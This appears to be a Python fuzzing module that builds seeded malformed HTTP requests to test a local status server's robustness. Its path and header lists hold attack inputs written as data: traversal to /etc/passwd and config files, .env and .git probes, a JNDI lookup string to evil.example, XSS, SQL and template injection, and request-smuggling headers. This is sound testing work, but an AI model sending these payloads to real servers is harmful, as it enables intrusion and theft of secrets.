"""Valid, malformed and random bytes to send to a web server; the same for the same seed."""

from __future__ import annotations

import random
from collections.abc import Sequence

PATHS = (
    "/ /healthz /readyz /metrics /api/status /events /static/page.css /static/ /static /login /stop /nothing"
    " /favicon.ico /.env /.git/config /api/status/ /healthz/ //healthz /static/../gate.py /static/..%2f..%2fgate.py"
    " /static//etc/passwd /static/%2e%2e/%2e%2e/config.py /static/..\\..\\config.py /static/page.css/x /static/%00"
    " /static/page.css%00 /% /%zz /%ff%fe /%c0%ae%c0%ae/ /;/?& /login?next=//evil.example /..;/ * ? #"
    " http://evil.example/ healthz:443 /\x00 /\x7f /\xe4\xff /a\tb /{{7*7}} /${jndi:ldap://evil.example/a}"
    " /<script>alert(1)</script> /'%20or%201=1--"
).split(" ")
COMMON_PATHS = PATHS[:11]
METHODS = "GET HEAD POST PUT DELETE PATCH OPTIONS TRACE CONNECT PROPFIND get G\xc4T GET\x00 PRI".split(" ")
VERSIONS = ("HTTP/1.1", "HTTP/1.0", "HTTP/0.9", "HTTP/2.0", "HTTP/9.9", "HTTP/1.1 x", "http/1.1", "HTCPCP/1.0", "")
HOSTS = (
    "localhost",
    "127.0.0.1:1",
    "evil.example",
    "[::1",
    "a b",
    "\xff",
    "x" * 300,
    "localhost:99999",
    "user@host",
    "",
)
LENGTHS = ("0", "5", "4096", "99999999", "9" * 30, "-1", "+5", "0x5", "5, 5", "5, 6", "5.0", " ", "\xb2")
VALUES: dict[str, Sequence[str]] = {
    "Authorization": ("Bearer", "Bearer ", "Bearer x", "Bearer \xff\x80", "Basic eDp4", "x" * 4000, "Bearer " * 50),
    "Cookie": (
        "x",
        "=",
        ";;;",
        "status_session",
        "status_session=",
        'status_session="\\777.\\000"',
        "a=b; " * 900,
        "status_session=1.2",
        "status_session=99999999999999999999.00",
        "status_session=-1.\xff",
    ),
    "Content-Type": (
        "application/x-www-form-urlencoded",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "x/\xff",
    ),
    "Transfer-Encoding": ("chunked", "Chunked", "gzip, chunked", "chunked, chunked", "identity", "xchunked", ""),
    "Content-Length": LENGTHS,
    "Host": HOSTS,
    "Expect": ("100-continue", "200-ok", "100-Continue, x"),
    "Connection": ("close", "keep-alive", "upgrade", "upgrade, close", "Host", "\xff"),
    "Upgrade": ("websocket", "h2c", "TLS/1.0", "x" * 2000),
    "Sec-WebSocket-Key": ("dGhlIHNhbXBsZSBub25jZQ==", "x"),
    "Origin": ("null", "http://localhost", "http://[", "http://localhost:x", "://", "http://\xff", "x" * 3000),
    "Referer": ("http://localhost/", "http://[::1", "\x7f", "//", "http://localhost:999999/"),
    "Sec-Fetch-Site": ("same-origin", "cross-site", "same-origin, cross-site", ""),
    "X-Forwarded-For": ("127.0.0.1", "::1", "unknown", "1.2.3.4, " * 200, "\xff"),
    "X-Forwarded-Proto": ("https", "https,http", "HTTPS", "ws", "\xff", "javascript"),
    "X-Forwarded-Host": ("evil.example",),
    "Range": (
        "bytes=0-0",
        "bytes=5-1",
        "bytes=-0",
        "bytes=--1",
        "bytes=",
        "x",
        "bytes=" + "0-," * 900,
        "bytes=9999999-",
    ),
    "If-Range": ('"x"', "Thu, 01 Jan 1970 00:00:00 GMT", "x"),
    "If-None-Match": ("*", '"' + "x" * 3000, "W/", ","),
    "If-Modified-Since": ("Thu, 01 Jan 1970 00:00:00 GMT", "Thu, 99 Foo 99999 99:99:99 GMT", "0", "x", "\xff"),
    "Accept-Encoding": ("gzip", "identity;q=0", "*;q=0", "x;q=" + "9" * 400),
    "Last-Event-ID": ("x", "\xff", "9" * 4000),
    "Content-Encoding": ("gzip", "br"),
    "Trailer": ("Authorization",),
    "X-HTTP-Method-Override": ("DELETE", "POST"),
    "Max-Forwards": ("0",),
}
LINES = (
    b" folded: x",
    b"\tfolded",
    b"no colon",
    b": no name",
    b"space : x",
    b"\xff\xfe: x",
    b"nul: \0",
    b"bare\rcr: x",
    b"long: " + b"x" * 15_000,
    b"longer: " + b"x" * 70_000,
)
FORMS = (
    b"token=x",
    b"confirm=stop&csrf=x",
    b"a=1&" * 2000,
    b"token=%ff%00%",
    b"%",
    b"\xff" * 50,
    b"x" * 70_000,
)
CHUNKS = (
    b"5\r\nabc",
    b"zz\r\n",
    b"-1\r\n",
    b"ffffffffffffffff\r\n",
    b"1;" + b"x" * 20_000,
    b"0\r\nX: y\r\n\r\n",
)
NOT_HTTP = (
    b"",
    b"\r\n" * 50,
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(50),
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
    b"PROXY TCP4 127.0.0.1 127.0.0.1 1 1\r\nGET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"SSH-2.0-x\r\n",
    b"\0" * 1000,
    b"GET " + b"/" * 100_000,
    b"GET / HTTP/1.1" + b"\r\nx: y" * 4000 + b"\r\n\r\n",
)


class MalformedRequests:
    """Generate request number n of a seed. `cookie` is a session with which some of them are authorized."""

    def __init__(self, seed: int, cookie: str) -> None:
        self.seed = seed
        self._cookie = cookie

    def request(self, number: int) -> bytes:
        """Return the bytes to send on one connection."""
        dice = random.Random(f"{self.seed}:{number}")
        kind = dice.random()
        if kind < 0.05:
            return dice.choice(NOT_HTTP)
        if kind < 0.1:
            return dice.randbytes(dice.choice([1, 20, 500, 20_000]))
        if kind < 0.2:
            return self._form_request(dice)
        text = b"".join(self._single_request(dice) for _ in range(dice.choice([1] * 8 + [2, 30])))
        return _corrupt(dice, text) if dice.random() < 0.15 else text

    def _single_request(self, dice: random.Random) -> bytes:
        method = dice.choice(["GET", "GET", "GET", "POST", "POST", dice.choice(METHODS)])
        path = dice.choice(dice.choice([PATHS, COMMON_PATHS]))
        if dice.random() < 0.2:
            path += dice.choice(["?", "/", "%2f..", "?x=" + "y" * 10_000, "/" * 9000, "#x", " x", "%", "\x00"])
        version = "HTTP/1.1" if dice.random() < 0.9 else dice.choice(VERSIONS)
        body = _body(dice) if dice.random() < (0.8 if method == "POST" else 0.1) else b""
        lines = [f"{method} {path} {version}".encode("latin-1"), *self._headers(dice)]
        if body and dice.random() < 0.7:
            lines.append(b"Content-Length: %d" % len(body))
        return b"\r\n".join(lines) + b"\r\n\r\n" + body

    def _form_request(self, dice: random.Random) -> bytes:
        """Return a form as the page sends it, with another body."""
        body = dice.choice(FORMS)
        return (
            f"POST {dice.choice(['/login', '/stop'])} HTTP/1.1\r\nHost: localhost\r\nCookie: {self._cookie}\r\n"
            f"Sec-Fetch-Site: same-origin\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: {len(body)}\r\n\r\n"
        ).encode() + body

    def _headers(self, dice: random.Random) -> list[bytes]:
        lines = [b"Host: localhost"] if dice.random() < 0.9 else []
        if dice.random() < 0.7:
            lines.append(f"Cookie: {self._cookie}".encode())
        if dice.random() < 0.4:
            lines += [b"Sec-Fetch-Site: same-origin", b"Content-Type: application/x-www-form-urlencoded"]
        for _ in range(dice.choice([0, 1, 1, 2, 3, 5])):
            name = dice.choice(list(VALUES))
            lines += [f"{name}: {dice.choice(VALUES[name])}".encode("latin-1")] * dice.choice([1, 1, 1, 1, 2, 40])
        if dice.random() < 0.08:
            lines.append(dice.choice(LINES))
        dice.shuffle(lines)
        return lines


def _body(dice: random.Random) -> bytes:
    kind = dice.random()
    if kind < 0.6:
        return dice.choice(FORMS)
    if kind < 0.7:
        size = dice.choice([1, 100, 5000])
        return b"%x\r\n" % size + b"x" * size + b"\r\n0\r\n\r\n"
    return dice.choice(CHUNKS)


def _corrupt(dice: random.Random, text: bytes) -> bytes:
    first_offset, second_offset = dice.randrange(len(text)), dice.randrange(len(text))
    kind = dice.randrange(4)
    if kind == 0:
        return text[:first_offset]
    if kind == 1:
        return text[:first_offset] + dice.randbytes(3) + text[first_offset:]
    if kind == 2:
        return text.replace(b"\r\n", b"\n")
    return text[: max(first_offset, second_offset)] + text[min(first_offset, second_offset) :]
